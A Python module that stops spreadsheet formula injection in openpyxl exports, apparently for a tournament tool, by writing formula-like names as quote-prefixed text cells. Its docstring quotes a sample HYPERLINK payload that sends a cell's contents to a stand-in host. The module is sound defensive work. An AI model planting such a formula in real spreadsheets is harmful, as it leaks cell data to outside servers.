"""Text cells a spreadsheet never runs: names typed by anyone are data, not formulas.

A player, club or tournament called ``=HYPERLINK("http://x/?"&A1,"Clicca")`` would otherwise be
written by openpyxl as a live formula, and a text starting with ``+``, ``-``, ``@``, a tab or a
carriage return is read as one by Excel or LibreOffice the moment the director edits the cell.
``safe_row`` writes every such text as a plain string cell with Excel's "quote prefix" style
(the hidden apostrophe a user types to mean "this is text"); every other value passes through
untouched, so number cells stay numbers and the write-only workbook stays fast.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell: Cell) -> Cell:
    """Make ``cell`` a text cell whatever its value looks like."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def safe_value(sheet, value: Any) -> Any:
    """``value`` as it may be appended to ``sheet``: a text cell when it looks like a formula."""
    if looks_like_formula(value):
        return as_text(Cell(sheet, row=1, column=1, value=value))
    return value


def safe_row(sheet, row: Iterable[Any]) -> Iterable[Any]:
    """A row for ``sheet.append``, its formula-like texts turned into text cells."""
    if not any(map(looks_like_formula, row)):
        return row
    return [safe_value(sheet, value) for value in row]
